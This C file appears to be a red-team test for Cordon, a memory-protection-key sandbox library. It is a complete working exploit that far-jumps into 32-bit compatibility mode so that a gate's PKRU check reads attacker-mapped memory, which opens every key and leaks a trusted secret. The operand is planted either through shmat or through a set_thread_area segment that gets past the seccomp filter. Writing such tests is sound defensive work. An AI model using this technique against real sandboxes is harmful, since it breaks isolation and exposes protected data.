// Compatibility mode (32-bit code segment 0x23) turns a gate's CHECKED_WRPKRU
// check into an absolute load of attacker memory.
//
// Every gate site is `wrpkru; cmp eax, [rip + disp32]; jne fatal`. In 64-bit
// mode the compare reads the config page. In compatibility mode (a far jump
// to the flat 32-bit user code segment 0x23, which every x86-64 Linux GDT
// has, no system call needed) the same bytes `3b 05 disp32` mean
// `cmp eax, [disp32]`: an absolute address, which untrusted code maps and
// fills with the EAX it chose. So any WRPKRU site whose address is below
// 4 GiB (EIP is 32 bits) loads any PKRU. The exit site continues with
// `4c 89 d8 c3`, which compatibility mode reads as `dec esp; mov eax, ebx;
// ret`: a return to the attacker's code with PKRU 0. A far jump back to
// segment 0x33 then reads the secret in 64-bit mode.
//
// Condition: the gates must lie below 4 GiB, i.e. the program (which links
// libcordon.a and holds the generated gates) is a non-PIE executable
// (`-no-pie`, loaded at 0x400000). Nothing in Cordon refuses or documents it.
//
// Judge: the parent process holds two pipes. Trusted code (a registered entry,
// before lockdown) writes the random secret's hex to the first; after lockdown
// untrusted code writes what it stole to the second. The parent compares.
//
// Build: gcc -O1 -g -masm=intel -no-pie -Iinclude -Ibuild/include \
//   -o build/redteam/compat_mode_exit tests/redteam/compat_mode_exit.c \
//   build/runtime/libcordon.a build/runtime/libcordon_inspector.a \
//   -lcapstone -lseccomp -lstdc++ -lpthread -ldl
// Run:   tools/cordon-pku-run --native -- build/redteam/compat_mode_exit [tls]
//   (default: the compare's operand is mapped with shmat; `tls`: no mapping,
//   a set_thread_area data segment with a chosen base is loaded into DS)
#include <cordon/cordon.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <sys/syscall.h>
#include <asm/ldt.h>
#include <sys/random.h>
#include <sys/wait.h>
#include <unistd.h>

static cordon_domain_t g_dom;
static cordon_entry g_gen, g_reveal;
static uint8_t* g_secret;  // trusted pointer; untrusted code never reads through it with untrusted rights
static int g_out_fd = -1;
uint64_t g_saved_rsp;      // 64-bit stack to come back to
static uint8_t g_low_stack[0x4000] __attribute__((aligned(16)));
static volatile uint32_t g_zero_word;  // .bss: the compare's operand in the set_thread_area variant
static int g_use_tls;

static void hex(char* dst, const uint8_t* p, size_t n) {
  static const char d[] = "0123456789abcdef";
  for (size_t i = 0; i < n; i++) { dst[2 * i] = d[p[i] >> 4]; dst[2 * i + 1] = d[p[i] & 15]; }
  dst[2 * n] = '\n';
}

// ---- trusted entries (run inside the domain) ----
static uint64_t e_gen(uint64_t a, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)a; (void)b; (void)c; (void)d; (void)e;
  void* p = 0;
  if (cordon_malloc(32, &p) != 0) return 0;
  if (getrandom(p, 32, 0) != 32) return 0;
  return (uint64_t)p;
}
static uint64_t e_reveal(uint64_t fd, uint64_t b, uint64_t c, uint64_t d, uint64_t e) {
  (void)b; (void)c; (void)d; (void)e;
  char buf[65];
  hex(buf, g_secret, 32);
  return (uint64_t)write((int)fd, buf, 65);
}

// ---- the attacker's code: untrusted, in the non-PIE executable ----
__attribute__((noreturn, used)) void compat_stolen(void) {
  uint32_t pkru;
  __asm__ volatile("xor ecx, ecx\n rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  uint8_t copy[32];
  memcpy(copy, g_secret, 32);  // a plain untrusted load of trusted memory
  char buf[96];
  hex(buf, copy, 32);
  int n = 65;
  n += snprintf(buf + 65, sizeof buf - 65, "pkru=%08x\n", pkru);
  (void)!write(g_out_fd, buf, n);
  _exit(0);
}

__asm__(
    ".text\n"
    ".code32\n"
    ".globl compat_landing32\n"
    "compat_landing32:\n"
    "  .byte 0xff, 0x2b\n"  // jmp far [ebx]: back to 0x33:compat_landing64 (ebx survives the gate's exit)
    ".code64\n"
    ".globl compat_landing64\n"
    "compat_landing64:\n"
    "  mov rsp, qword ptr [rip + g_saved_rsp]\n"
    "  and rsp, -16\n"
    "  call compat_stolen\n"
    "  ud2\n");
extern char compat_landing32[], compat_landing64[];
static struct __attribute__((packed)) { uint32_t off; uint16_t sel; } g_far_back;  // .bss, below 4 GiB

static void child(int reveal_fd, int out_fd) {
  cordon_options o;
  cordon_options_init(&o);
  if (cordon_init(&o) != 0) { printf("init failed\n"); exit(1); }
  g_dom = cordon_trusted_domain();
  cordon_register(g_dom, e_gen, "gen", &g_gen);
  cordon_register(g_dom, e_reveal, "reveal", &g_reveal);
  g_secret = (uint8_t*)cordon_call(g_gen, 0, 0, 0, 0, 0);
  cordon_call(g_reveal, (uint64_t)reveal_fd, 0, 0, 0, 0);
  close(reveal_fd);
  g_out_fd = out_fd;
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); exit(1); }

  // ---- after lockdown: untrusted attacker ----
  uintptr_t site = 0;
  for (size_t i = 0; i < cordon_gate_site_count(); i++) {
    cordon_gate_site s;
    if (cordon_gate_site_get(i, &s) == 0 && s.kind == 2) { site = s.address; break; }
  }
  const uint8_t* b = (const uint8_t*)site;
  setvbuf(stdout, 0, _IONBF, 0);
  printf("exit site %#lx bytes after: %02x %02x %02x | %02x %02x\n", (unsigned long)site, b[0], b[1], b[2], b[3], b[4]);
  if (site == 0 || site >= 0xfffff000ul) { printf("held: no exit site below 4 GiB (PIE?)\n"); exit(3); }
  if (b[3] != 0x3b || b[4] != 0x05) { printf("unexpected shape\n"); exit(3); }
  uint32_t disp;
  memcpy(&disp, b + 5, 4);
  // In compatibility mode the compare reads absolute address `disp`.
  uint16_t ds = 0x2b;     // flat user data segment
  uint32_t far_back_ds;   // where `jmp far [ebx]` finds the way back, as DS sees it
  if (!g_use_tls) {
    // mmap anywhere in the 16 GiB block of the config page (here: the low
    // 16 GiB, which holds a non-PIE executable) is refused by the filter, but
    // shmat takes an address and has no block rule.
    uintptr_t page = disp & ~0xffful;
    int id = shmget(IPC_PRIVATE, 0x2000, IPC_CREAT | 0600);
    void* m = id < 0 ? (void*)-1 : shmat(id, (void*)page, 0);
    if (m != (void*)page) { printf("shmat at %#lx failed: %s\n", (unsigned long)page, strerror(errno)); exit(3); }
    memset((void*)(uintptr_t)disp, 0, 4);  // the EAX we load: PKRU 0, every key open
    far_back_ds = (uint32_t)(uintptr_t)&g_far_back;
  } else {
    // No new mapping at all: a GDT TLS data segment (set_thread_area, a
    // 64-bit system call the filter allows) whose base makes DS:disp land on
    // a zero word in this program's .bss.
    uint32_t base = (uint32_t)(uintptr_t)&g_zero_word - disp;
    struct user_desc u;
    memset(&u, 0, sizeof u);
    u.entry_number = (unsigned)-1;
    u.base_addr = base;
    u.limit = 0xfffff;
    u.seg_32bit = 1;
    u.limit_in_pages = 1;
    u.useable = 1;
    if (syscall(SYS_set_thread_area, &u) != 0) { printf("set_thread_area failed: %s\n", strerror(errno)); exit(3); }
    ds = (uint16_t)(u.entry_number << 3 | 3);
    far_back_ds = (uint32_t)(uintptr_t)&g_far_back - base;
    printf("GDT TLS entry %u, base %#x, DS %#x\n", u.entry_number, base, ds);
  }
  uint8_t* top = g_low_stack + sizeof g_low_stack - 64;  // .bss: below 4 GiB in a non-PIE executable
  uint32_t land = (uint32_t)(uintptr_t)compat_landing32;
  memcpy(top - 1, &land, 4);  // `dec esp; ...; ret` pops here
  struct __attribute__((packed)) { uint32_t off; uint16_t sel; } far = {(uint32_t)site, 0x23};
  g_far_back.off = (uint32_t)(uintptr_t)compat_landing64;
  g_far_back.sel = 0x33;
  printf("compare reads %#x in compat mode; stack %p; landing %#x\n", disp, (void*)top, land);
  fflush(stdout);
  __asm__ volatile(
      "mov qword ptr [rip + g_saved_rsp], rsp\n"
      "mov ds, %w3\n"
      "mov es, %w3\n"
      "mov rsp, %0\n"
      "xor eax, eax\n"
      "xor ecx, ecx\n"
      "xor edx, edx\n"
      ".byte 0xff, 0x2e\n"  // jmp far [rsi]: m16:32, to 0x23:site
      :
      : "r"(top), "S"(&far), "b"(far_back_ds), "r"(ds)
      : "memory", "rax", "rcx", "rdx");
  __builtin_unreachable();
}

int main(int argc, char** argv) {
  g_use_tls = argc > 1 && strcmp(argv[1], "tls") == 0;
  int p1[2], p2[2];
  if (pipe(p1) || pipe(p2)) return 2;
  pid_t pid = fork();
  if (pid == 0) {
    close(p1[0]); close(p2[0]);
    child(p1[1], p2[1]);
    _exit(9);
  }
  close(p1[1]); close(p2[1]);
  char want[128] = {0}, got[128] = {0};
  ssize_t n1 = read(p1[0], want, sizeof want - 1);
  ssize_t n2 = 0, r;
  while ((r = read(p2[0], got + n2, sizeof got - 1 - n2)) > 0) n2 += r;
  int st = 0;
  waitpid(pid, &st, 0);
  printf("judge: trusted secret: %.*s", (int)(n1 > 0 ? n1 : 0), want);
  printf("judge: attacker got:   %s", n2 > 0 ? got : "(nothing)\n");
  printf("judge: child status %#x\n", st);
  if (n1 == 65 && n2 >= 65 && memcmp(want, got, 64) == 0) {
    printf("LEAKED: untrusted code read the exact secret\n");
    return 0;
  }
  printf("held\n");
  return 1;
}
